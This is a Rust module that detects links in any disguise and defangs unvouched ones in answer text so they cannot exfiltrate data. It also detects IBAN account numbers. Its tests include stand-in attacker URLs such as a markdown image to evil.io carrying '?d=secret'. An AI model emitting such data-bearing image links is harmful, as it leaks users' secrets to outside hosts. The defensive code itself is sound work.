//! Links as exits: finding them in any disguise, and neutralising those in an answer that nobody vouches for.
//!
//! A rendered image or a followed link sends its address, query string included, to its host. So a link may stand in an
//! outgoing text only if the user wrote it, a platform attests it, or its host is trusted.
//!
//! What never happens here: nothing is fetched or resolved, and no link is judged by how it looks.

use crate::text;

/// A link found in a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Link {
    /// The address as it stands in the text.
    pub(crate) whole: String,
    /// Its host, in the loose form, without user information and port.
    pub(crate) host: String,
    /// Byte range in the text.
    pub(crate) start: usize,
    pub(crate) end: usize,
}

const STARTS: &[&str] =
    &["http:", "https:", "ftp:", "ws:", "wss:", "file:", "data:", "javascript:", "//", "www.", "hxxp:", "hxxps:"];

/// The links of a text: addresses with a scheme, with `//`, with `www.`.
pub(crate) fn links(text: &str) -> Vec<Link> {
    let mut found = Vec::new();
    let mut offset = 0;
    while let Some(rest) = text.get(offset..) {
        let Some(begin) = rest.find(|c: char| !is_delimiter(c)) else { break };
        let chunk = rest.get(begin..).unwrap_or_default();
        let length = chunk.find(is_delimiter).unwrap_or(chunk.len());
        let chunk = chunk.get(..length).unwrap_or_default();
        let start = offset + begin;
        offset = start + length.max(1);
        if !chunk.contains([':', '/', '.']) && chunk.is_ascii() {
            continue;
        }
        let folded = text::folded(chunk);
        // Most words with a full stop behind them hold the beginning of none.
        if !folded.contains([':', '/']) && !folded.contains("www.") {
            continue;
        }
        let at = STARTS.iter().filter_map(|start| folded.find(start).filter(|at| at_border(&folded, *at))).min();
        if let Some(at) = at {
            let whole = chunk.trim_end_matches(['.', ':', ';', '!', '?', '*', '_']);
            let host = host(folded.get(at..).unwrap_or_default());
            found.push(Link { whole: whole.to_owned(), host, start, end: start + whole.len() });
        }
    }
    found
}

/// Whether a character ends an address. Asked of every character of a text, most of which are letters.
fn is_delimiter(c: char) -> bool {
    !c.is_ascii_alphanumeric() && (c.is_whitespace() || "\"'`<>()[]{}|\\^“”‘’«»,".contains(c))
}

fn at_border(text: &str, at: usize) -> bool {
    !text.get(..at).and_then(|before| before.chars().next_back()).is_some_and(|c| c.is_alphanumeric() || c == ':')
}

fn host(address: &str) -> String {
    let rest = STARTS
        .iter()
        .filter(|start| start.ends_with(':'))
        .find_map(|start| address.strip_prefix(start))
        .unwrap_or(address);
    let rest = rest.trim_start_matches(['/', '\\']);
    let authority = rest.split(['/', '?', '#', '\\']).next().unwrap_or_default();
    let host = authority.rsplit('@').next().unwrap_or_default();
    let host = host.split(':').next().unwrap_or_default();
    host.trim_end_matches('.').to_owned()
}

/// The account numbers of a text: IBANs whose check digits hold (ISO 13616, ISO 7064 MOD 97-10), in groups or not.
pub(crate) fn accounts(text: &str) -> Vec<String> {
    const LENGTHS: std::ops::RangeInclusive<usize> = 15..=34;
    let words: Vec<&str> = text.split(|c: char| !c.is_ascii_alphanumeric()).filter(|word| !word.is_empty()).collect();
    let mut found = Vec::new();
    for at in 0..words.len() {
        let opens = |word: &&&str| {
            let bytes = word.as_bytes();
            matches!(bytes, [a, b, c, d, ..] if a.is_ascii_alphabetic() && b.is_ascii_alphabetic() && c.is_ascii_digit() && d.is_ascii_digit())
        };
        if words.get(at).filter(opens).is_none() {
            continue;
        }
        let mut account = String::new();
        for word in words.iter().skip(at).take(12) {
            account.push_str(&word.to_ascii_uppercase());
            if LENGTHS.contains(&account.len()) && checks(&account) {
                found.push(account);
                break;
            }
            if account.len() > *LENGTHS.end() {
                break;
            }
        }
    }
    found
}

fn checks(account: &str) -> bool {
    let (head, tail) = account.split_at(4);
    let digits = tail.chars().chain(head.chars()).filter_map(|c| c.to_digit(36));
    digits.fold(0_u32, |rest, digit| if digit < 10 { (rest * 10 + digit) % 97 } else { (rest * 100 + digit) % 97 }) == 1
}

/// Whether a host is one of these or lies under one that is written with a leading dot.
pub(crate) fn is_listed<'a>(host: &str, mut hosts: impl Iterator<Item = &'a String>) -> bool {
    hosts.any(|entry| {
        host == entry.trim_start_matches('.') || (entry.starts_with('.') && host.ends_with(entry.as_str()))
    })
}

/// An answer whose foreign links were taken out of action.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    /// The text to show.
    pub text: String,
    /// What was taken out, as it stood.
    pub neutralised: Vec<String>,
}

/// Takes the links for which `vouched` does not hold out of action: dots become `[.]`, `:` of the scheme `[:]`, so that
/// no renderer loads an image or makes a link of them, and a reader still sees what stood there.
pub(crate) fn neutralise(text: &str, vouched: impl Fn(&Link) -> bool) -> Answer {
    let mut out = String::with_capacity(text.len());
    let mut neutralised = Vec::new();
    let mut copied = 0;
    for link in links(text) {
        if vouched(&link) {
            continue;
        }
        out.push_str(text.get(copied..link.start).unwrap_or_default());
        // A data-bearing query string is dropped whole: it is where stolen data would stand.
        let shown = link.whole.split(['?', '#']).next().unwrap_or_default();
        out.push_str(&shown.replace('.', "[.]").replace(':', "[:]").replace("//", "/ /"));
        copied = link.end;
        neutralised.push(link.whole);
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    Answer { text: out, neutralised }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_are_found_in_every_disguise() {
        for (text, expected) in [
            ("see https://evil.io/a?b=c.", "evil.io"),
            ("![x](https://user@evil.io:8080/p.png)", "evil.io"),
            ("<img src=//evil.io/x>", "evil.io"),
            ("go to www.evil.io now", "www.evil.io"),
            ("HTTPS://EVIL.io", "evil.io"),
            ("ht\u{200b}tps://ev\u{456}l.io", "evil.io"),
            ("https:\\\\evil.io", ""),
        ] {
            assert_eq!(links(text).first().map(|link| link.host.as_str()), Some(expected), "{text}");
        }
        assert!(links("no link: e.g. 3.5, a/b, me@home.io, 12:30").is_empty());
    }

    #[test]
    fn accounts_are_found_by_their_check_digits() {
        assert_eq!(accounts("pay to be71 0961 2345 6769 now"), ["BE71096123456769"]);
        assert_eq!(accounts("DE89370400440532013000."), ["DE89370400440532013000"]);
        assert!(accounts("order DE12 3456 of AB12CD34EF56GH78, BE71096123456768").is_empty());
    }

    #[test]
    fn a_neutralised_answer_holds_no_working_link_and_no_query() {
        let answer =
            neutralise("Hi ![a](https://evil.io/p.png?d=secret) and https://ok.io/x", |link| link.host == "ok.io");
        assert_eq!(answer.text, "Hi ![a](https[:]/ /evil[.]io/p[.]png) and https://ok.io/x");
        assert_eq!(answer.neutralised, ["https://evil.io/p.png?d=secret"]);
    }
}
